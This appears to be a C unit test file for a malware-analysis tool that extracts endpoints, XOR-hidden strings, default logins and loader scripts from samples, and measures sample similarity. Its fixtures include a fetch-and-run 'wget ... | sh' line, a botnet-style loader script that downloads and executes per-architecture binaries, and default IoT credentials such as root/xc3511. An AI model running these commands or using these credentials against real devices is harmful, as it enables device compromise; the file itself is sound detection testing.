/* What the content of a sample tells: endpoints, open and hidden; loader scripts; likeness. */
#include "sample/endpoint.h"
#include "sample/script.h"
#include "sample/similar.h"
#include "sample/tlsh.h"
#include "sample/xor.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define LENGTH(a) (sizeof(a) / sizeof(a)[0])

static void look(struct sample_report *r, const char *text)
{
    const struct endpoint_source from = { .reason = "string" };
    const struct found_string s = { .text = text, .n = strlen(text), .alone = true };
    struct endpoint_list list = { 0 };
    sample_report_init(r);
    assert_int_equal(endpoint_find(r, &s, &from, &list), 0);
}

/* ---- in open text ---- */

static const struct {
    const char *text;
    enum endpoint_kind kind;
    const char *found; /* NULL: nothing */
    uint16_t port;
    const char *range;
} open_text[] = {
    { "http://192.0.2.7/bins/mips", ENDPOINT_URL, "http://192.0.2.7/bins/mips", 80, "documentation" },
    { "wget http://192.0.2.7:8080/a.sh -O- | sh", ENDPOINT_URL, "http://192.0.2.7:8080/a.sh", 8080, "documentation" },
    { "see https://files.example.com/x.", ENDPOINT_URL, "https://files.example.com/x", 443, "" },
    { "tftp://198.51.100.3/arm7;", ENDPOINT_URL, "tftp://198.51.100.3/arm7", 69, "documentation" },
    { "ftp://[2001:db8::5]:2121/f", ENDPOINT_URL, "ftp://[2001:db8::5]:2121/f", 2121, "documentation" },
    { "http://10.0.0.1/", ENDPOINT_URL, "http://10.0.0.1/", 80, "private" },
    { "GET http://%s/x HTTP/1.0", ENDPOINT_URL, "http://%s/x", 80, "" },
    { "203.0.113.9:4567", ENDPOINT_ADDRESS, "203.0.113.9", 4567, "documentation" },
    { "connect 203.0.113.9 now", ENDPOINT_ADDRESS, "203.0.113.9", 0, "documentation" },
    { "127.0.0.1", ENDPOINT_ADDRESS, "127.0.0.1", 0, "loopback" },
    { "2001:db8::77", ENDPOINT_ADDRESS, "2001:db8::77", 0, "documentation" },
    { "[2001:db8::77]:443", ENDPOINT_ADDRESS, "2001:db8::77", 443, "documentation" },
    { "cnc.example.com", ENDPOINT_NAME, "cnc.example.com", 0, "" },
    { "cnc.example.com:23", ENDPOINT_NAME, "cnc.example.com", 23, "" },
    { "User-Agent: made-up/1.0", ENDPOINT_AGENT, "made-up/1.0", 0, "" },
    { "Mozilla/5.0 (X11; Linux x86_64)", ENDPOINT_AGENT, "Mozilla/5.0 (X11; Linux x86_64)", 0, "" },
    { "OpenSSL/1.0.2.1", 0, NULL, 0, "" },
    { "v1.2.3.4", 0, NULL, 0, "" },
    { "1.2.3.4.5", 0, NULL, 0, "" },
    { "999.1.1.1", 0, NULL, 0, "" },
    { "12:34:56", 0, NULL, 0, "" },
    { "libc.so.6", 0, NULL, 0, "" },
    { "index.html", 0, NULL, 0, "" },
    { "main.sh", 0, NULL, 0, "" },
    { "a.b", 0, NULL, 0, "" },
    { "std::string", 0, NULL, 0, "" },
    { "://", 0, NULL, 0, "" },
    { "http://", 0, NULL, 0, "" },
    { "-.com", 0, NULL, 0, "" },
};

static void what_is_open(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(open_text); i++) {
        struct sample_report r;
        look(&r, open_text[i].text);
        if (!open_text[i].found) {
            if (r.endpoints)
                fail_msg("%s: found %s", open_text[i].text, r.endpoint[0].text);
        } else {
            if (r.endpoints != 1)
                fail_msg("%s: found %zu", open_text[i].text, r.endpoints);
            const struct sample_endpoint *e = &r.endpoint[0];
            assert_string_equal(e->text, open_text[i].found);
            assert_int_equal(e->kind, open_text[i].kind);
            assert_int_equal(e->port, open_text[i].port);
            assert_string_equal(e->range, open_text[i].range);
            assert_in_range(e->confidence, 1, 100);
        }
        sample_report_release(&r);
    }
}

static void log_ins(void **state)
{
    (void)state;
    static const char table[] = "root\0xc3511\0\0admin\0password\0hello\0world\0support:support\0root nothing\0";
    struct sample_report r;
    struct endpoint_list list = { 0 };
    const struct endpoint_source from = { .reason = "string" };
    sample_report_init(&r);
    for (size_t at = 0; at + 1 < sizeof table; at += strlen(table + at) + 1) {
        const struct found_string s = { .text = table + at, .n = strlen(table + at), .at = at, .alone = true };
        if (s.n >= 4)
            assert_int_equal(endpoint_find(&r, &s, &from, &list), 0);
    }
    assert_int_equal(r.pairs, 3);
    assert_string_equal(r.pair[0].user, "root");
    assert_string_equal(r.pair[0].password, "xc3511");
    assert_string_equal(r.pair[2].password, "support");
    assert_int_equal(r.endpoints, 0);
    sample_report_release(&r);
}

/* ---- hidden ---- */

/* A file of bytes that look like code, and a table in it. */
enum { FILE_SIZE = 60000, TABLE_AT = 30001 };

static uint8_t *make_file(uint32_t seed)
{
    uint8_t *data = malloc(FILE_SIZE);
    assert_non_null(data);
    for (size_t i = 0; i < FILE_SIZE; i++) {
        seed = seed * 1664525 + 1013904223;
        data[i] = (uint8_t)(seed >> 24);
    }
    return data;
}

static const struct sample_endpoint *find(const struct sample_report *r, const char *text)
{
    for (size_t i = 0; i < r->endpoints; i++)
        if (!strcmp(r->endpoint[i].text, text))
            return &r->endpoint[i];
    return NULL;
}

static const char hidden[] = "\0/bin/busybox\0http://192.0.2.44/bins/\0cnc.example.com\0" "203.0.113.80:6667\0root\0xc3511\0";

/* Every key of one byte. */
static void hidden_by_one_byte(void **state)
{
    (void)state;
    for (unsigned key = 1; key < 256; key++) {
        struct sample_report r;
        uint8_t *data = make_file(key);
        for (size_t i = 0; i < sizeof hidden; i++)
            data[TABLE_AT + i] = (uint8_t)hidden[i] ^ (uint8_t)key;
        sample_report_init(&r);
        assert_int_equal(xor_find(data, FILE_SIZE, &r), 0);
        if (key == 0x20) { /* letters of the other case: nobody hides by it, and it is everywhere */
            sample_report_release(&r);
            free(data);
            continue;
        }
        static const char *const wanted[] = { "http://192.0.2.44/bins/", "cnc.example.com", "203.0.113.80" };
        for (size_t i = 0; i < LENGTH(wanted); i++) {
            const struct sample_endpoint *e = find(&r, wanted[i]);
            if (!e)
                fail_msg("key %02x: %s is not found", key, wanted[i]);
            assert_int_equal(e->key_n, 1);
            assert_int_equal(e->key[0], key);
            assert_string_equal(e->reason, "xor");
        }
        assert_true(r.pairs >= 1 && !strcmp(r.pair[0].password, "xc3511"));
        assert_true(r.findings >= 1);
        sample_report_release(&r);
        free(data);
    }
}

/* An address alone, without any word that would tell. */
static void a_hidden_address_alone(void **state)
{
    (void)state;
    for (unsigned key = 1; key < 256; key += 7) {
        static const char text[] = "\0" "198.51.100.23:48101\0";
        struct sample_report r;
        uint8_t *data = make_file(key + 1000);
        for (size_t i = 0; i < sizeof text; i++)
            data[TABLE_AT + i] = (uint8_t)text[i] ^ (uint8_t)key;
        sample_report_init(&r);
        assert_int_equal(xor_find(data, FILE_SIZE, &r), 0);
        const struct sample_endpoint *e = find(&r, "198.51.100.23");
        if (!e)
            fail_msg("key %02x", key);
        assert_int_equal(e->port, 48101);
        sample_report_release(&r);
        free(data);
    }
}

/* Keys of two to eight bytes, at each phase of the key. */
static void hidden_by_a_longer_key(void **state)
{
    (void)state;
    static const uint8_t key[XOR_KEY_MOST] = { 0x37, 0x9e, 0x51, 0xc4, 0x08, 0xea, 0x73, 0x1d };
    static const char text[] = "\0User-Agent: http://192.0.2.61:81/update/bot.mips";
    for (size_t length = 2; length <= XOR_KEY_MOST; length++)
        for (size_t phase = 0; phase < length; phase++) {
            struct sample_report r;
            uint8_t *data = make_file((uint32_t)(length * 10 + phase));
            for (size_t i = 0; i < sizeof text; i++)
                data[TABLE_AT + i] = (uint8_t)text[i] ^ key[(i + phase) % length];
            sample_report_init(&r);
            assert_int_equal(xor_find(data, FILE_SIZE, &r), 0);
            const struct sample_endpoint *e = find(&r, "http://192.0.2.61:81/update/bot.mips");
            if (!e)
                fail_msg("%zu bytes, phase %zu", length, phase);
            assert_int_equal(e->key_n, length);
            sample_report_release(&r);
            free(data);
        }
}

/* Bytes that hide nothing give nothing. */
static void nothing_is_hidden(void **state)
{
    (void)state;
    for (uint32_t seed = 0; seed < 40; seed++) {
        struct sample_report r;
        uint8_t *data = make_file(seed * 77 + 5);
        sample_report_init(&r);
        assert_int_equal(xor_find(data, FILE_SIZE, &r), 0);
        if (r.endpoints || r.pairs)
            fail_msg("seed %u: %s", seed, r.endpoints ? r.endpoint[0].text : r.pair[0].user);
        sample_report_release(&r);
        free(data);
    }
}

/* ---- scripts ---- */

static void a_loader_is_walked(void **state)
{
    (void)state;
    static const char script[] = "#!/bin/sh\ncd /tmp || cd /var\nfor a in mips mpsl arm7 sh4; do\n  wget http://192.0.2.9/b/$a -O x || "
                                 "tftp -g -r $a 192.0.2.9\n  chmod 777 x; ./x loader.$a\ndone\n";
    static const char *const wanted[] = { "http://192.0.2.9/b/mips", "http://192.0.2.9/b/mpsl", "http://192.0.2.9/b/arm7",
                                          "http://192.0.2.9/b/sh4", "tftp://192.0.2.9/sh4" };
    struct sample_report r;
    sample_report_init(&r);
    assert_int_equal(script_read(script, sizeof script - 1, &r), 0);
    for (size_t i = 0; i < LENGTH(wanted); i++) {
        const struct sample_endpoint *e = find(&r, wanted[i]);
        if (!e)
            fail_msg("%s is not found", wanted[i]);
        assert_string_equal(e->reason, "script");
        assert_int_equal(e->confidence, 90);
    }
    assert_string_equal(r.finding[0].name, "loader");
    sample_report_release(&r);
}

/* ---- likeness ---- */

/* Strings from `first` on, between other bytes for each CPU. */
static void sign(struct sample_report *r, unsigned first, unsigned n, uint32_t seed)
{
    uint8_t *data = make_file(seed);
    size_t at = 1000;
    data[at++] = 0;
    for (unsigned i = first; i < first + n; i++)
        at += (size_t)sprintf((char *)data + at, "made string number %u of this", i * 17) + 1;
    static const char libc[] = "Operation not permitted\0No such file or directory\0Interrupted system call\0/etc/resolv.conf";
    memcpy(data + at, libc, sizeof libc);
    sample_report_init(r);
    sample_set_word(r, WORD_FORMAT, "data");
    similar_sign(data, FILE_SIZE, r);
    free(data);
}

static void the_same_source_is_alike(void **state)
{
    (void)state;
    struct sample_report a, b, c, few;
    similar_prepare();
    sign(&a, 0, 60, 1);
    sign(&b, 0, 60, 2);
    sign(&c, 1000, 60, 3);
    assert_int_equal(sample_alike(&a.signature, &b.signature), SAMPLE_SIGNATURE);
    assert_true(sample_alike(&a.signature, &c.signature) <= 2);
    sign(&b, 12, 60, 4); /* a fifth of it is new: 48 of 72 are common */
    assert_in_range(sample_alike(&a.signature, &b.signature), SAMPLE_SIGNATURE / 2, SAMPLE_SIGNATURE * 8 / 10);
    sign(&few, 0, 7, 5); /* and what libraries say makes nobody like another */
    assert_int_equal(few.signature.features, 0);
}

static void locality(void **state)
{
    (void)state;
    char hash[TLSH_ROOM];
    uint8_t *data = make_file(9);
    tlsh_text(data, FILE_SIZE, hash);
    assert_int_equal(strlen(hash), 72);
    assert_memory_equal(hash, "T1", 2);
    tlsh_text(data, 40, hash);
    assert_string_equal(hash, "");
    memset(data, 'x', FILE_SIZE);
    tlsh_text(data, FILE_SIZE, hash);
    assert_string_equal(hash, "");
    free(data);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_is_open),        cmocka_unit_test(log_ins),
        cmocka_unit_test(hidden_by_one_byte),  cmocka_unit_test(a_hidden_address_alone),
        cmocka_unit_test(hidden_by_a_longer_key), cmocka_unit_test(nothing_is_hidden),
        cmocka_unit_test(a_loader_is_walked),  cmocka_unit_test(the_same_source_is_alike),
        cmocka_unit_test(locality),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
